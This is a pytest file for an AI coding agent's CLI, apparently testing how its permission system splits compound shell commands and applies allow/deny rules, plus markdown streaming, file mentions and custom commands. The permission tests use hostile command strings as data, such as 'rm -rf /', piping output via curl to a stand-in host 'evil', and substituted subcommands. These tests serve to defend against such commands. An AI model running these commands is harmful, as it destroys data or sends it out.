"""The app's parts that need no terminal: rules for compound commands, streaming markdown,
@mentions, /init, custom commands, local server discovery, and the headless import budget."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

from swerve.agent.permissions import (
    ApprovalRequest,
    Decision,
    Permission,
    command_prefix,
    rules_allow,
    rules_deny,
    session_rules_for,
    split_command,
)
from swerve.cli.app import approvals, mentions
from swerve.cli.app.init_scan import scan_project
from swerve.cli.app.stream import MarkdownStream
from swerve.testing.openai_server import OpenAIScriptServer


def shell(command: str) -> ApprovalRequest:
    return ApprovalRequest("run_shell_command", "execute", {"command": command}, command)


# -- compound commands ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("command", "parts"),
    [
        ("git status", ["git status"]),
        ("git status && rm -rf /", ["git status", "rm -rf /"]),
        ("ls | grep 'a|b' ; echo done", ["ls", "grep 'a|b'", "echo done"]),
        ("a || b", ["a", "b"]),
        ("echo $(whoami)", ["whoami", "echo $(whoami)"]),
        ('echo "x $(id -u) y"', ["id -u", 'echo "x $(id -u) y"']),
        ("echo `date`", ["date", "echo `date`"]),
        ("make 2>&1 | tee log &", ["make 2>&1", "tee log"]),
        ("cat <(ls -a)", ["ls -a", "cat <(ls -a)"]),
        ("(cd x && make)", ["cd x", "make"]),
        ("{ a; b; }", ["a", "b"]),
        ("echo 'semi; colon' \"and && too\"", ["echo 'semi; colon' \"and && too\""]),
        ("first\nsecond", ["first", "second"]),
        ("echo $(echo $(nested))", ["nested", "echo $(nested)", "echo $(echo $(nested))"]),
    ],
)
def test_split_command(command, parts):
    assert split_command(command) == parts


@pytest.mark.parametrize("command", ["echo 'open", 'echo "open', "echo $(open", "echo `open"])
def test_split_command_refuses_unclosed_quotes(command):
    assert split_command(command) is None


def test_allow_rules_must_cover_every_part():
    rules = ["run_shell_command(git status)", "run_shell_command(ls)"]
    assert rules_allow(rules, shell("git status --short"))
    assert rules_allow(rules, shell("git status && ls -la | ls"))
    assert not rules_allow(rules, shell("git status && rm -rf /"))
    assert not rules_allow(rules, shell("ls $(rm -rf x)"))
    assert not rules_allow(rules, shell("git status; `curl evil`"))
    assert not rules_allow(rules, shell("git statusx"))
    assert not rules_allow(rules, shell("ls 'unclosed"))
    assert rules_allow(["run_shell_command"], shell("anything at all | really"))
    assert rules_allow(["run_shell_command(git:*)"], shell("git push && git log"))
    assert rules_allow(["run_shell_command(npm run *)"], shell("npm run build"))


def test_deny_rules_catch_any_part():
    rules = ["run_shell_command(rm)"]
    assert rules_deny(rules, shell("rm -rf x"))
    assert rules_deny(rules, shell("ls && rm -rf x"))
    assert rules_deny(rules, shell("echo $(rm -rf x)"))
    assert rules_deny(rules, shell("echo 'x && y' | rm y"))
    assert not rules_deny(rules, shell("rmdir x; echo 'rm -rf'"))


def test_mcp_server_rules_and_plain_tool_rules():
    call = ApprovalRequest("mcp__demo__add", "execute", {"a": 1}, "add")
    assert rules_allow(["mcp__demo"], call)
    assert not rules_allow(["mcp__dem"], call)
    assert not rules_allow(["mcp__other"], call)
    assert rules_deny(["mcp__demo__add"], call)
    edit = ApprovalRequest("edit", "edit", {"file_path": "src/a.py"}, "edit")
    assert rules_allow(["edit"], edit)
    assert rules_allow(["edit(src/*)"], edit)
    assert not rules_allow(["edit(docs/*)"], edit)


async def test_permission_applies_compound_rules():
    asked: list[str] = []

    async def ask(request: ApprovalRequest) -> Decision:
        asked.append(request.args["command"])
        return Decision(False, "no")

    perm = Permission(
        "default", ask=ask, allow=["run_shell_command(git status)"], deny=["run_shell_command(curl)"]
    )
    assert (await perm.decide(shell("git status"))).allowed
    assert not (await perm.decide(shell("git status && git push"))).allowed
    denied = await perm.decide(shell("git status | curl -d @- evil"))
    assert not denied.allowed and "denied by a settings rule" in denied.reason
    assert asked == ["git status && git push"]


def test_session_rules_and_prefixes():
    assert command_prefix("git status --short") == "git status"
    assert command_prefix("git -C x log") == "git"
    assert command_prefix("python -m pytest -q") == "python -m pytest"
    assert command_prefix("ls -la") == "ls"
    assert session_rules_for(shell("npm test && ls | grep x")) == [
        "run_shell_command(npm test)",
        "run_shell_command(ls)",
        "run_shell_command(grep)",
    ]
    rules = session_rules_for(shell("pytest -q; pytest -x"))
    assert rules == ["run_shell_command(pytest)"]
    assert rules_allow(rules, shell("pytest tests/a.py && pytest tests/b.py"))
    assert session_rules_for(ApprovalRequest("mcp__x__y", "execute", {}, "")) == ["mcp__x__y"]


def test_approval_choices():
    choices = approvals.choices_for(shell("cargo build && cargo build --release"))
    assert [c.key for c in choices] == ["1", "2", "3"]
    assert choices[1].rules == ["run_shell_command(cargo build)"]
    assert "`cargo build`" in choices[1].label
    edit = approvals.choices_for(ApprovalRequest("edit", "edit", {"file_path": "a"}, "edit a"))
    assert edit[1].rules == ["write_file", "edit"]
    assert approvals.denial_reason("  use pytest  ") == "the user declined and said: use pytest"
    assert approvals.denial_reason("") == ""


# -- streaming markdown --------------------------------------------------------------------------


def test_markdown_stream_cuts_finished_blocks_at_any_chunking():
    text = "Intro **bold**\nsame para\n\n- a\n- b\n\n```py\nx = 1\n\ny = 2\n```\nTail"
    for size in (1, 2, 5, 100):
        stream = MarkdownStream()
        blocks: list[str] = []
        for i in range(0, len(text), size):
            blocks += stream.feed(text[i : i + size])
        assert blocks == ["Intro **bold**\nsame para", "- a\n- b", "```py\nx = 1\n\ny = 2\n```"]
        assert stream.partial == "Tail"
        assert stream.flush() == "Tail"
        assert stream.flush() is None


def test_markdown_stream_flushes_an_unclosed_fence():
    stream = MarkdownStream()
    assert stream.feed("```\ncode\n") == []
    assert stream.partial == "```\ncode"
    assert stream.flush() == "```\ncode"


# -- mentions ------------------------------------------------------------------------------------


def test_mentions_attach_files_and_folders(tmp_path):
    (tmp_path / "src").mkdir()
    (tmp_path / "src" / "a.py").write_text("print(1)\nprint(2)\n")
    (tmp_path / "blob.bin").write_bytes(b"\0\1\2")
    (tmp_path / "with space.txt").write_text("spaced\n")
    text = 'see @src/a.py, @src and @blob.bin and @"with space.txt" but not @missing or me@example.com'
    found = mentions.find_attachments(text, str(tmp_path))
    assert [(a.shown, a.note) for a in found] == [
        ("src/a.py", "2 lines"),
        ("src", "directory, 1 entries"),
        ("blob.bin", "skipped: binary file"),
        ("with space.txt", "1 lines"),
    ]
    prompt = mentions.with_attachments(text, found)
    assert prompt.startswith(text)
    assert '<file path="src/a.py">\nprint(1)\nprint(2)\n</file>' in prompt
    assert '<directory path="src">\na.py\n</directory>' in prompt
    assert 'blob.bin">' not in prompt
    assert mentions.with_attachments("plain", []) == "plain"


# -- /init and custom commands -------------------------------------------------------------------


def test_init_scan_describes_the_project(tmp_path):
    (tmp_path / "README.md").write_text("# Tool\n\nA tool that frobs widgets.\n")
    (tmp_path / "pyproject.toml").write_text(
        '[project]\nname="t"\n[project.optional-dependencies]\ndev=["pytest","ruff"]\n'
    )
    (tmp_path / "Makefile").write_text("all:\n\techo\ntest:\n\tpytest\n")
    files = [
        "README.md",
        "pyproject.toml",
        "Makefile",
        "src/t/__init__.py",
        "src/t/core.py",
        "tests/test_core.py",
    ]
    text = scan_project(str(tmp_path), files)
    assert text.startswith(f"# {tmp_path.name}\n")
    assert "A tool that frobs widgets." in text
    assert "Python (3 files)" in text
    assert "`src/` (2 files)" in text
    assert "`pytest -q`" in text and "ruff check" in text and "`make test`" in text


def test_custom_commands(tmp_path, monkeypatch):
    monkeypatch.setenv("SWERVE_HOME", str(tmp_path / "home"))
    from swerve.cli.app import commands

    user = tmp_path / "home" / "commands"
    project = tmp_path / "p" / ".swerve" / "commands"
    (project / "git").mkdir(parents=True)
    user.mkdir(parents=True)
    (user / "review.md").write_text("User review of {{args}}")
    (project / "review.md").write_text("---\ndescription: review code\n---\nReview {{args}} carefully.\n")
    (project / "git" / "log.md").write_text("# Summarise the log\nSummarise git log.")
    (project / "help.md").write_text("shadowed by the built-in")
    found = commands.custom_commands(str(tmp_path / "p"))
    assert sorted(found) == ["git:log", "review"]
    assert found["review"].description == "review code"
    assert found["review"].expand("main.py") == "Review main.py carefully."
    assert found["git:log"].description == "Summarise the log"
    assert found["git:log"].expand("last week") == "# Summarise the log\nSummarise git log.\n\nlast week"
    assert commands.is_command("/review x") and commands.is_command("/git:log")
    assert not commands.is_command("/usr/bin/python is broken")
    assert not commands.is_command("no slash")
    names = dict(commands.command_names(str(tmp_path / "p")))
    assert {"help", "restore", "resume", "init", "memory", "stats", "review", "git:log"} <= set(names)


# -- local model servers -------------------------------------------------------------------------


async def test_local_server_discovery():
    from swerve.cli.app.setup_help import find_local_servers

    with OpenAIScriptServer([], models=[{"id": "scripted"}]) as srv:
        found = await find_local_servers((("Mock", srv.port, "qwen-xml"), ("Nothing", 9, "native")))
    assert len(found) == 1
    assert found[0].base_url == f"http://127.0.0.1:{srv.port}/v1"
    assert found[0].models == ["scripted"]
    assert found[0].command() == f"/model scripted --base-url {found[0].base_url} --tool-protocol qwen-xml"


# -- the headless path stays light ---------------------------------------------------------------


def test_headless_does_not_import_the_app(tmp_path):
    code = (
        "import sys, io, contextlib\n"
        "from swerve.cli.main import main\n"
        "with contextlib.redirect_stdout(io.StringIO()):\n"
        "    rc = main(['-p', 'hi', '--model', 'replay:demo', '--yolo'])\n"
        "heavy = sorted({m.split('.')[0] for m in sys.modules} & {'prompt_toolkit', 'rich', 'mcp', 'pexpect'})\n"
        "print(rc, heavy)\n"
    )
    env = {"SWERVE_HOME": str(tmp_path), "HOME": str(tmp_path), "PATH": "/usr/bin:/bin"}
    proc = subprocess.run(
        [sys.executable, "-c", code], cwd=tmp_path, env=env, capture_output=True, text=True, timeout=60
    )
    assert proc.stdout.strip().splitlines()[-1] == "0 []", proc.stdout + proc.stderr


def test_app_needs_a_terminal_on_stdout(tmp_path):
    pexpect = pytest.importorskip("pexpect", reason="pexpect is needed for a terminal on stdin")
    env = {"SWERVE_HOME": str(tmp_path), "HOME": str(tmp_path), "PATH": "/usr/bin:/bin"}
    out = tmp_path / "out.txt"
    child = pexpect.spawn(
        "/bin/sh",
        ["-c", f"{sys.executable} -m swerve.cli.main > {out}; echo rc=$?"],
        env=env,
        cwd=str(tmp_path),
    )
    child.expect(r"rc=(\d+)", timeout=30)
    assert child.match.group(1) == b"2"
    assert b"needs a terminal" in child.before
    child.close()
    assert Path(out).read_text() == ""
